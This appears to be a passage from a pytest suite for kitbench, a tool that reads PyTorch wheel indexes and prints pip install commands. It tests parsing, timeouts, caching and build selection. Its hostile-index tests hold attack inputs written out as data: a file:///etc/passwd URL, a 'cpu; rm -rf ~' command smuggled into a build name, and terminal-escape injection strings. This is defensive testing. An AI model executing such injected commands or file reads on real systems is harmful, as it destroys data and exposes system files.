    with pytest.raises(SystemExit, match="1"):
        runpy.run_path(str(script), run_name="__main__")
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 2 and err[0].startswith(f"ERROR: {path}:") and "are not one [a, b] line" in err[0]
    assert path.read_bytes() == before


def _cpu_page(files: list[str], yanked: tuple[str, ...] = ()) -> tuple[str, bytes]:
    """whl/cpu/<package>/ as download.pytorch.org serves it (PEP 503), listing exactly ``files``."""
    links = [
        f'<a href="/whl/cpu/{name.replace("+", "%2B")}#sha256={hashlib.sha256(name.encode()).hexdigest()}"'
        f"{' data-yanked' if name in yanked else ''}>{name}</a><br/>"
        for name in files
    ]
    return "text/html", ("<html><body>\n" + "\n".join(links) + "\n</body></html>\n").encode()


def test_the_weekly_workflow_s_script_records_the_windows_arm64_wheels_the_index_lists(
    index: Index, envs_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """envs/scripts/index_wheels.py: a release whose win_arm64 wheels the cpu tree lists becomes one published row in
    place of those recorded for it (torchvision's found by its public version, a git-hash label and all); one it
    lists without any loses its rows; one it does not list keeps them; install-cmd answers from what it wrote."""
    import runpy

    arm = "win_arm64"
    index.pages["/whl/cpu/torch/"] = _cpu_page(
        [_wheel("torch", "2.13.0+cpu", py, arm) for py in ("cp311", "cp312", "cp313")]
        + [
            _wheel("torch", "2.13.0+cpu", "cp314", WIN),
            _wheel("torch", "2.7.0+cpu", "cp312", WIN),
            _wheel("torch", "2.14.1+cpu", "cp312", WIN),
            _wheel("torch", "2.8.0+cpu", "cp311", arm),
            _wheel("torch", "2.8.0+cpu", "cp312", arm),
            _wheel("torch", "2.8.0+cpu", "cp313", arm),
        ]
    )
    yanked = _wheel("torchvision", "0.28.0+cpu", "cp311", arm)
    index.pages["/whl/cpu/torchvision/"] = _cpu_page(
        [
            _wheel("torchvision", "0.28.0+3a1b2c3", "cp312", arm),
            _wheel("torchvision", "0.28.0+cpu", "cp313", arm),
            yanked,
        ],
        yanked=(yanked,),
    )
    index.pages["/whl/cpu/torchaudio/"] = _cpu_page([])
    before = (envs_copy / "index_tags.yaml").read_text()
    script = Path(__file__).resolve().parents[2] / "envs" / "scripts" / "index_wheels.py"
    assert runpy.run_path(str(script))["main"]() == 0
    out = capsys.readouterr().out.splitlines()
    assert out[1:] == [
        "torch 2.7.0: the index lists no win_arm64 wheel of it; its 1 row(s) taken out",
        "torch 2.8.0: the win_arm64 wheels of torch as listed, in place of 2 recorded row(s)",
        "torch 2.13.0: the win_arm64 wheels of torch, torchvision as listed, in place of 2 recorded row(s)",
    ]
    rows = {row["torch"]: row for row in manifest.load(envs_copy / "index_tags.yaml", "index_tags").data["wheels"]}
    assert "2.7.0" not in rows and rows["2.8.0"]["pythons"] == {"torch": "cp311 cp312 cp313"}
    assert rows["2.13.0"]["pythons"] == {"torch": "cp311 cp312 cp313", "torchvision": "cp312 cp313"}
    assert rows["2.13.0"]["kind"] == "published" and "torchvision-0.28.0+3a1b2c3-cp312" in rows["2.13.0"]["source"]
    assert rows["2.10.0"]["pythons"]["torchvision"] == "cp312 cp313"  # not on the page: left as it was
    assert (envs_copy / "index_tags.yaml").read_text().startswith(before[: before.index("\nwheels:\n")])
    woa = ("--os", "windows", "--arch", "aarch64", "--python-arch", "aarch64", "--python-version", "3.12")
    assert _answer(capsys, *woa)["command"] == (
        "pip install torch==2.13.0 torchvision==0.28.0 --index-url https://download.pytorch.org/whl/cpu"
    )
    # Run again on the same listing: nothing to report, nothing changed.
    written = (envs_copy / "index_tags.yaml").read_text()
    assert runpy.run_path(str(script))["main"]() == 0
    assert capsys.readouterr().out.splitlines()[1:] == [] and (envs_copy / "index_tags.yaml").read_text() == written


def test_after_a_refresh_explain_says_the_fact_cache_was_used(index: Index, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["install-cmd", "--explain", *LINUX_GPU]) == 0
    assert "# fact cache:" not in capsys.readouterr().err
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    assert main(["install-cmd", "--explain", *LINUX_GPU]) == 0
    assert (
        f"# fact cache: {facts.cache_dir() / 'releases.json'} (kitbench facts refresh), read 20"
        in capsys.readouterr().err
    )


# --- a hostile index: every entry that does not parse is left out with a note, the rest counts ---------------------


def _hostile_torchvision_page() -> bytes:
    """The torchvision page with the entries a hostile index (or a broken one) serves beside the good ones."""
    page = json.loads(_pypi_page("torchvision"))
    good = page["files"][-1]

    def bad(**changes: object) -> dict[str, object]:
        return {**good, **changes}

    page["files"] += [
        bad(**{"upload-time": "yesterday"}),
        bad(**{"upload-time": "2027-01-20T15:00:00", "filename": _wheel("torchvision", "0.30.1", "py3", LINUX)}),
        bad(url="/files/a wheel.whl"),
        bad(url="file:///dev/stdin#", filename=_wheel("torchvision", "0.31.0", "py3", LINUX)),
        bad(url="file:///etc/passwd#"),
        bad(**{"requires-python": ">=3."}),
        bad(filename=_wheel("torchvision", "0.32.0%0A", "py3", LINUX)),
        bad(filename=_wheel("torchvision", "0.30.0+cu1 ;x", "py3", LINUX)),
        bad(filename=_wheel("torchvision", "0.30.0+cu132\x1b[31m", "py3", LINUX)),
        "not an object",
    ]
    return json.dumps(page).encode()


def test_a_hostile_page_loses_its_bad_entries_with_a_note_and_the_rest_counts(
    index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    index.pages["/simple/torchvision/"] = (JSON, _hostile_torchvision_page())
    assert main(["install-cmd", "--refresh", "--release", "2.16.0", *LINUX_GPU]) == 0
    out, err = capsys.readouterr()
    assert out == (
        "pip install torch==2.16.0 torchvision==0.30.0 torchaudio==2.16.0 "
        "--index-url https://download.pytorch.org/whl/cu132\n"
    )
    port = index.server_address[1]
    assert f"note: http://127.0.0.1:{port}/simple/torchvision/: 10 entries left out, which do not parse" in err
    assert "Traceback" not in err and "\x1b" not in err and "ERROR" not in err
    assert not [path for path in index.requests if not path.startswith(("/simple/", "/whl/", "/files/"))]
    # What was written is what install-cmd reads, every time after.
    assert main(["install-cmd", "--release", "2.14.0", "--os", "linux", "--no-gpu"]) == 0
    assert "left out" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 300_000 + b"]" * 300_000,
        b'{"files": ' + b"[" * 40 + b"]" * 40 + b"}",
        b'{"files": {"a": 1}}',
        b"\xff\xfe",
    ],
)
def test_a_page_that_is_no_page_is_a_note_and_install_cmd_answers(
    body: bytes, index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    index.pages["/simple/torch/"] = (JSON, body)
    assert main(["install-cmd", "--refresh", "--os", "linux", "--no-gpu", "--python-version", "3.12"]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==") and "Traceback" not in err
    assert "note: the facts were not refreshed: " in err and "malformed PEP 691 page" in err


def test_html_a_parser_cannot_read_loses_only_what_it_cannot_read(index: Index) -> None:
    page = _index_page("torch").replace(b"<h1>", b"<![bogus[ x ]]><h1>")
    answer = _http.Response("https://download.pytorch.org/whl/torch/", 200, page, "text/html", None, None)
    dropped: list[str] = []
    assert len(indexes.page_files(answer, dropped)) == page.count(b"<a ") and dropped == []
    spaced = page.replace(b'href="/whl/cpu/', b'href="/whl/c pu/', 1)
    answer = _http.Response("https://download.pytorch.org/whl/torch/", 200, spaced, "text/html", None, None)
    assert len(indexes.page_files(answer, dropped)) == page.count(b"<a ") - 1
    assert dropped == [
        "a file URL with a space or a control character (torch-2.15.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl)"
    ]


def test_metadata_dripped_a_byte_at_a_time_ends_within_the_refreshs_one_deadline(
    index: Index, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(indexes, "REFRESH_DEADLINE", 1.0)
    for path in index.pages:
        if path.endswith(".metadata"):
            index.drip[path] = 0.2  # some 50 bytes each: 10 s apiece, 60 s for a refresh without one deadline
    started = time.monotonic()
    assert main(["facts", "refresh"]) in (0, 1)
    assert time.monotonic() - started < 3
    err = capsys.readouterr().err
    assert "note: the metadata of 0.30.0 was not read (cannot reach 127.0.0.1:" in err and "Traceback" not in err


def test_headers_dripped_make_a_due_install_cmd_a_note_not_a_wait(
    index: Index, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(_http, "TIMEOUT", 0.3)

    class Drip(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.wfile.write(b"HTTP/1.1 200 OK\r\n")
            for _ in range(30):  # a header byte every 100 ms, 3 s at most: the server ends by itself
                with contextlib.suppress(OSError):
                    self.wfile.write(b"X")
                    self.wfile.flush()
                time.sleep(0.1)

        def log_message(self, format: str, *args: object) -> None:
            pass

    drip = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Drip)
    threading.Thread(target=drip.serve_forever, daemon=True).start()
    try:
        monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{drip.server_address[1]}/simple")
        monkeypatch.setenv(indexes.PYTORCH_VARIABLE, f"http://127.0.0.1:{drip.server_address[1]}/whl/")
        monkeypatch.setenv(facts.MAX_AGE_VARIABLE, "0s")
        started = time.monotonic()
        assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
        assert time.monotonic() - started < 2.5
    finally:
        drip.shutdown()
        drip.server_close()
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==") and "it took over 0.3 s to answer" in err


@pytest.mark.parametrize("variable", ["PIP_INDEX_URL", indexes.PYTORCH_VARIABLE])
@pytest.mark.parametrize(
    "url",
    [
        "http://[::1",
        "https://me:S3/CR3T@mirror.example/simple",
        "https://mirror\uff0eexample/simple",
        "https://mirror.example/a\x7fb",
    ],
)
def test_an_unusable_index_url_is_one_error_line_and_a_note_to_install_cmd(
    url: str, variable: str, index: Index, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv(variable, url)
    assert main(["facts", "refresh"]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"ERROR: {variable} is not a usable index URL: ") and len(err.splitlines()) == 2
    assert "CR3T" not in err and "mirror" not in err and not index.requests
    assert main(["install-cmd", "--refresh", "--os", "linux", "--no-gpu"]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==") and "note: the facts were not refreshed" in err and "CR3T" not in err


def test_a_due_refresh_that_cannot_write_its_cache_is_a_note(
    index: Index, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A cache kitbench cannot write (read-only, full; here a folder where its file goes, which fails for root
    too): `facts refresh` says so in one line; a due install-cmd in a note, and answers."""
    assert main(["facts", "refresh"]) == 0
    written = CACHE_DIR() / "pypi-torch.json"
    written.unlink()
    written.mkdir()
    capsys.readouterr()
    assert main(["facts", "refresh"]) == 2
    assert capsys.readouterr().err.startswith(f"ERROR: will not write {written}: it is a directory")
    monkeypatch.setenv(facts.MAX_AGE_VARIABLE, "0s")
    assert main(["install-cmd", "--release", "2.16.0", *LINUX_GPU]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==2.16.0 ")
    assert f"note: the facts were not refreshed: will not write {written}: it is a directory" in err


def test_an_indexs_text_reaches_install_cmds_notes_cleaned(index: Index, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["facts", "refresh"]) == 0
    path = CACHE_DIR() / "releases.json"
    data = json.loads(path.read_text())
    data["releases"][0]["refused"] = ["cu140\x1b]0;pwned\x07\x1b[2J: \u202eforged\x9b"]
    data["releases"][0]["paired"] = "upload date\r\nnote: forged"
    path.write_text(json.dumps(data))
    facts.reload()
    capsys.readouterr()
    assert main(["install-cmd", "--release", "2.16.0", "--explain", *LINUX_GPU]) == 0
    err = capsys.readouterr().err
    assert not any(c in err for c in "\x1b\x07\r\x9b\u202e") and "\\x1b]0;pwned" in err
    assert "\nnote: forged" not in err


# --- a listing that drops a release's builds makes that release unusable here, not every answer -------------------

H100 = (
    "--os",
    "linux",
    "--arch",
    "x86_64",
    "--python-version",
    "3.12",
    "--glibc",
    "2.35",
    "--driver",
    "570.86.10",
    "--gpu-cc",
    "9.0",
)
CPU_BOX = (*H100[:8], "--no-gpu")
MI300X = (*H100[:8], "--gpu-gfx", "gfx942")
ARC = (*H100[:8], "--intel-gpu", "0x56a0")
OLDER = [("2.14.1", b) for b in ("cpu", "cu126", "cu130", "cu132", "rocm7.2", "rocm7.14", "xpu")]


@pytest.mark.parametrize(
    "newest", [[("2.15.0", "cu140")], [("2.15.0", "xpu")], [("2.15.0", "cu999")], [("2.15.0", "rocm99.1")]]
)
def test_a_listing_that_drops_the_newest_release_s_builds_leaves_every_machine_its_answer(
    newest: list[tuple[str, str]], index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    """2.15.0 listed with only a build kitbench has no facts for (or one no machine here runs): an H100, a CPU box,
    an AMD and an Intel machine get 2.14.1, as for any release without a fitting build, and say why; never
    "torch 2.15.0 has no cpu build" for every Linux answer."""
    index.pages["/whl/torch/"] = ("text/html", _listing(newest + OLDER))
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    for machine, build in ((H100, "cu126"), (CPU_BOX, "cpu"), (MI300X, "rocm7.14"), (ARC, "xpu")):
        if newest == [("2.15.0", "xpu")] and machine is ARC:
            continue  # 2.15.0's xpu is listed: the Arc gets it
        assert main(["install-cmd", *machine]) == 0, machine
        out, err = capsys.readouterr()
        assert "torch==2.14.1 " in out and out.rstrip().endswith(f"/whl/{build}"), (machine, out, err)
        assert "ERROR" not in err and "Traceback" not in err
    assert main(["install-cmd", *CPU_BOX, "--explain"]) == 0
    port = index.server_address[1]
    assert (
        f"note: torch 2.14.1, not the newest release (2.15.0): PyTorch's index lists no 2.15.0 build for pip on "
        f"Linux x86_64 (http://127.0.0.1:{port}/whl/torch/ as read on "
    ) in capsys.readouterr().err
    # Asked for by name, 2.15.0 is still refused: it is the default answer that moves, not the question.
    assert main(["install-cmd", *CPU_BOX, "--release", "2.15.0"]) == 2
    assert capsys.readouterr().err.startswith("ERROR: torch 2.15.0 has no cpu build")


@pytest.mark.parametrize("builds", [{}, {"cu999": ["linux-x86_64"]}, {"xpu": ["linux-x86_64"]}])
def test_a_cache_whose_listing_names_no_usable_build_of_the_newest_is_the_same(
    builds: dict[str, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same, from a fact cache as written (or edited) on disk: 2.15.0 listed with no build at all, or only
    one no machine here runs."""
    folder = tmp_path / "kitbench" / "facts"
    folder.mkdir(parents=True)
    (folder / "releases.json").write_text(
        json.dumps(
            {
                "format": facts.FORMAT,
                "checked": "2026-11-20T00:00:00Z",
                "tried": "2026-11-20T00:00:00Z",
                "sources": [],
                "releases": [],
                "listed": {
                    "index": "https://download.pytorch.org/whl/torch/",
                    "read": "2026-11-20T00:00:00Z",
                    "releases": {"2.15.0": builds},
                },
            }
        )
    )
    monkeypatch.setenv("KITBENCH_CACHE", str(tmp_path / "kitbench"))
    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
    for machine, build in ((H100, "cu126"), (CPU_BOX, "cpu"), (MI300X, "rocm7.14")):
        assert main(["install-cmd", *machine]) == 0, machine
        out, err = capsys.readouterr()
        assert "torch==2.14.1 " in out and out.rstrip().endswith(f"/whl/{build}"), (machine, out, err)


def test_xpu_is_part_of_the_listing_check_like_every_build(index: Index, capsys: pytest.CaptureFixture[str]) -> None:
    """2.15.0 listed in cpu, cu130 and cu132, not xpu: its XPU build (envs/vendors.yaml's "from 2.5.0") is not
    answered, named or by default; 2.14.1's, listed, is."""
    index.pages["/whl/torch/"] = ("text/html", _listing([("2.15.0", b) for b in ("cpu", "cu130", "cu132")] + OLDER))
    # Before the refresh: the census' word. 2.15.0's XPU build rests on a nightly matrix alone, answered only when
    # named.
    assert _answer(capsys, *ARC)["release"] == "2.14.1"
    assert _answer(capsys, *ARC, "--release", "2.15.0", "--compute", "xpu")["compute"] == "xpu"
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    arc = _answer(capsys, *ARC)
    assert (arc["release"], arc["compute"]) == ("2.14.1", "xpu")
    assert main(["install-cmd", *ARC, "--release", "2.15.0", "--compute", "xpu"]) == 2
    assert capsys.readouterr().err.startswith("ERROR: torch 2.15.0 has no xpu build for linux x86_64")
    assert _answer(capsys, *CPU_BOX)["release"] == "2.15.0"  # its CPU build is listed: the CPU box keeps it


# --- issue 46 item 3: a build the listing has and envs/releases/ lacks ---------------------------------------------

RTX5090 = (
    "--os",
    "linux",
    "--arch",
    "x86_64",
    "--python-version",
    "3.12",
    "--glibc",
    "2.35",
    "--driver",
    "575.57.08",
    "--gpu-cc",
    "12.0",
)
WIN5090 = ("--os", "windows", "--arch", "x86_64", "--python-version", "3.12", "--driver", "576.02", "--gpu-cc", "12.0")
# 2.13.0 as download.pytorch.org/whl/torch/ lists it: its selector builds, and cu129 (Linux x86_64 only), which
# envs/releases/2.13.yaml does not name; cu140, a CUDA envs/ has no driver facts for.
WITH_CU129 = [("2.13.0", b) for b in ("rocm7.1", "rocm7.2", "cu126", "cu129", "cu130", "cu132", "cu140", "cpu")]
ON_WINDOWS: dict[tuple[str, str], tuple[str, ...]] = {
    ("2.13.0", b): (LINUX, WIN) for b in ("cu126", "cu130", "cu132", "cpu")
}


def test_a_build_the_listing_has_and_envs_lacks_is_recorded_with_where_its_wheels_are(index: Index) -> None:
    index.pages["/whl/torch/"] = ("text/html", _listing(WITH_CU129, ON_WINDOWS))
    assert main(["facts", "refresh"]) == 0
    written = json.loads((facts.cache_dir() / "releases.json").read_text())["listed"]["releases"]["2.13.0"]
    assert written["cu129"] == ["linux-x86_64"] and written["cu130"] == ["linux-x86_64", "windows-x86_64"]
    assert "cu140" not in written  # no driver facts: which machines it runs on is not known
    assert list(facts.listing().releases["2.13.0"]) == [
        "rocm7.1",
        "rocm7.2",
        "cu126",
        "cu129",
        "cu130",
        "cu132",
        "cpu",
    ]  # pytorch.org's order
    where, listed = facts.listed()
    assert "cu129" in listed["2.13.0"] and where.startswith(f"http://127.0.0.1:{index.server_address[1]}/whl/torch/")


def _as_before_the_census(envs: Path) -> None:
    """envs/releases/2.13.yaml as it was before the census recorded 2.13.0's cu129: a build the listing has and
    envs/ lacks."""
    series = envs / "releases" / "2.13.yaml"
    lines = series.read_text().replace("cu132, cu129, cpu]", "cu132, cpu]").splitlines(keepends=True)
    series.write_text(
        "".join(line for line in lines if "{builds: [cu129]" not in line and "{compute: cu129," not in line)
    )
    assert "cu129" not in releases.release("2.13.0").wheels


def test_a_listed_build_envs_lacks_is_answered_when_named_where_its_wheels_are(
    index: Index, envs_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--release 2.13.0 --compute cu129`` (issue 46: an RTX 5090 on driver 575) is answered, and says the build is
    the listing's; Windows, where the listing has no cu129 wheel, is refused."""
    _as_before_the_census(envs_copy)
    assert main(["install-cmd", *RTX5090, "--release", "2.13.0", "--compute", "cu129"]) == 2
    assert capsys.readouterr().err.startswith("ERROR: torch 2.13.0 has no cu129 build")  # before: unknown
    index.pages["/whl/torch/"] = ("text/html", _listing(WITH_CU129, ON_WINDOWS))
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    named = _answer(capsys, *RTX5090, "--release", "2.13.0", "--compute", "cu129")
    assert (
        named["command"] == "pip install torch==2.13.0 torchvision==0.28.0 --index-url "
        "https://download.pytorch.org/whl/cu129"
    )
    note = next(n for n in named["notes"] if "cu129 is not in envs/releases/" in n)  # type: ignore[attr-defined]
    assert (
        note.startswith(
            f"torch 2.13.0 cu129 is not in envs/releases/: the listing of http://127.0.0.1:"
            f"{index.server_address[1]}/whl/torch/ as read on "
        )
        and "not on record" in note
    )
    assert main(["install-cmd", *WIN5090, "--release", "2.13.0", "--compute", "cu129"]) == 2
    assert capsys.readouterr().err.startswith("ERROR: torch 2.13.0 has no cu129 build for pip on windows x86_64")


def test_a_listed_build_envs_lacks_is_a_default_answer_once_its_kernel_list_is_on_record(
    index: Index, envs_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Until then --explain says why the default answer passes it over; then it is the default answer."""
    _as_before_the_census(envs_copy)
    index.pages["/whl/torch/"] = ("text/html", _listing(WITH_CU129, ON_WINDOWS))
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    default = _answer(capsys, *RTX5090)
    assert (default["release"], default["compute"]) == ("2.11.0", "cu128")
    assert main(["install-cmd", *RTX5090, "--explain"]) == 0
    err = capsys.readouterr().err
    assert (
        "note: torch 2.13.0 cu129 (the listing of http://127.0.0.1:" in err
        and "was not tried: its kernel list is not on record (--release 2.13.0 --compute cu129 answers it)" in err
    ), err
    assert main(["install-cmd", *RTX5090, "--release", "2.13.0", "--explain"]) == 0
    assert "# rejected cu129: listed (the listing of " in capsys.readouterr().err
    series = envs_copy / "releases" / "2.13.yaml"
    text = series.read_text()
    series.write_text(
        text.replace(
            "kernels:\n",
            "kernels:\n  - {compute: cu129, arches: [sm_75, sm_80, sm_86, sm_90, "
            'sm_100, sm_120], kind: artifact, source: "a test\'s kernel list"}\n',
            1,
        )
    )
    default = _answer(capsys, *RTX5090)
    assert (default["release"], default["compute"]) == ("2.13.0", "cu129")
    assert not any("not on record" in n for n in default["notes"])  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "listed",
    [
        {"index": "https://x/whl/torch/", "read": "2026-11-20", "releases": {"2.15.0": ["cpu", "cu130"]}},  # format 1's
        {"index": "https://x/whl/torch/", "read": "2026-11-20", "releases": {"2.15.0": {"cpu": "linux-x86_64"}}},
        {"index": "https://x/whl/torch/", "read": "2026-11-20", "releases": {"2.15.0": {"cpu; rm -rf ~": []}}},
        {"index": "https://x/whl/torch/", "read": "2026-11-20", "releases": {"2.15.0": {"7": ["linux-x86_64"]}}},
        {"index": "https://x/whl/torch/", "read": 20261120, "releases": {}},
        {"index": "https://x/whl/torch/", "read": "2026-11-20", "releases": {"2.15.0\n": {"cpu": []}}},
        {
            "index": "https://x/whl/torch/",
            "read": "2026-11-20",
            "releases": {"2.15.0": {"cpu": ["linux-x86_64\ud800"]}},
        },
    ],
)
def test_a_listing_not_in_the_form_a_refresh_writes_is_left_out_with_a_note(
    listed: dict[str, object], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "kitbench" / "facts"
    folder.mkdir(parents=True)
    (folder / "releases.json").write_text(
        json.dumps(
            {
                "format": facts.FORMAT,
                "checked": "2026-11-20T00:00:00Z",
                "tried": "2026-11-20T00:00:00Z",
                "sources": [],
                "releases": [],
                "listed": listed,
            }
        )
    )
    monkeypatch.setenv("KITBENCH_CACHE", str(tmp_path / "kitbench"))
    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
    assert main(["install-cmd", *CPU_BOX]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==2.15.0 ") and "Traceback" not in err
    assert "left out the builds PyTorch's index lists, which are not in the form a refresh writes" in err


_BUILDS = ("cpu", "cu126", "cu129", "cu130", "cu132", "rocm7.2", "rocm7.14", "xpu", "cu999")
_PLACES = ("linux-x86_64", "linux-aarch64", "windows-x86_64", "windows-aarch64", "macos-arm64")
_LISTINGS = st.dictionaries(
    st.sampled_from(["2.15.0", "2.14.1", "2.13.0"]),
    st.dictionaries(st.sampled_from(_BUILDS), st.lists(st.sampled_from(_PLACES), max_size=3, unique=True), max_size=5),
    max_size=3,
)
_MACHINES = [
    H100,
    CPU_BOX,
    MI300X,
    ARC,
    RTX5090,
    WIN5090,
    ("--os", "windows", "--arch", "aarch64", "--python-version", "3.12", "--no-gpu"),
    (
        "--os",
        "linux",
        "--arch",
        "aarch64",
        "--python-version",
        "3.12",
        "--glibc",
        "2.39",
        "--driver",
        "580.65.06",
        "--gpu-cc",
        "9.0",
    ),
    ("--os", "macos", "--arch", "arm64", "--python-version", "3.12", "--os-version", "15.5"),
]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(listing=_LISTINGS, machine=st.sampled_from(_MACHINES))
def test_whatever_the_listing_every_answer_is_a_listed_build_or_one_error_line(
    listing: dict[str, dict[str, list[str]]],
    machine: tuple[str, ...],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Any listing of the newest releases (builds dropped, unknown, only on some places): install-cmd's default
    answer names a build the listing has for the release it answers (where that release is listed; a Mac's
    wheels are PyPI's), or is one ERROR line and a hint; never a traceback."""
    import tempfile

    with tempfile.TemporaryDirectory() as home:
        folder = Path(home, "kitbench", "facts")
        folder.mkdir(parents=True)
        (folder / "releases.json").write_text(
            json.dumps(
                {
                    "format": facts.FORMAT,
                    "checked": "2026-11-20T00:00:00Z",
                    "tried": "2026-11-20T00:00:00Z",
                    "sources": [],
                    "releases": [],
                    "listed": {
                        "index": "https://download.pytorch.org/whl/torch/",
                        "read": "2026-11-20T00:00:00Z",
                        "releases": listing,
                    },
                }
            )
        )
        monkeypatch.setenv("KITBENCH_CACHE", str(Path(home) / "kitbench"))
        monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
        code = main(["install-cmd", "--json", *machine])
        out, err = capsys.readouterr()
    assert "Traceback" not in err
    if code != 0:
        lines = err.splitlines()
        assert code == 2 and lines[-2].startswith("ERROR: ") and lines[-1].startswith("hint: "), err
        return
    answer = json.loads(out)
    # A Mac's torch comes from PyPI (pytorch.org's macOS command names no index): the listing is not its source.
    if answer["release"] in listing and answer["os"] != "macos":
        assert answer["compute"] in listing[answer["release"]], (answer["release"], answer["compute"], listing)


def test_a_release_only_the_cache_knows_has_an_xpu_build_only_where_its_index_lists_one(
    index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    """2.16.0's index page without its xpu wheels (and 2.15.0's lists cu132 and cpu only): an Arc gets 2.14.1's
    XPU build, and 2.16.0's is refused named."""
    index.pages["/whl/torch/"] = ("text/html", _index_page("torch").replace(b"+xpu-", b"+gone-"))
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    arc = _answer(capsys, "--os", "linux", "--arch", "x86_64", "--python-version", "3.13", "--intel-gpu", "0x56a0")
    assert (arc["release"], arc["compute"]) == ("2.14.1", "xpu")
    assert main(["install-cmd", *ARC[:6], "--intel-gpu", "--release", "2.16.0", "--compute", "xpu"]) == 2
    assert capsys.readouterr().err.startswith("ERROR: torch 2.16.0 has no xpu build")


def test_a_wheel_without_a_label_and_a_cpu_one_are_one_build_with_both_places() -> None:
    """download.pytorch.org lists macOS wheels without a label (torch-2.13.0-cp312-none-macosx_14_0_arm64.whl)
    beside Linux's +cpu ones: both are the cpu build, its places together."""
    page = _listing([("2.13.0", "cpu"), ("2.13.0", "cu129")]) + (
        b'<a href="/m">torch-2.13.0-cp312-none-macosx_14_0_arm64.whl</a>'
    )
    files = indexes.page_files(_http.Response("http://x/whl/torch/", 200, page, "text/html", None, None))
    source = {
        "url": "http://x/whl/torch/",
        "read": "2026-11-20T00:00:00Z",
        "releases": indexes.summarize(files, "torch"),
    }
    found = indexes.listed({"pytorch-torch.json": source}, {"2.13.0"})["releases"]["2.13.0"]
    assert found == {"cu129": ["linux-x86_64"], "cpu": ["linux-x86_64", "macos-arm64"]}
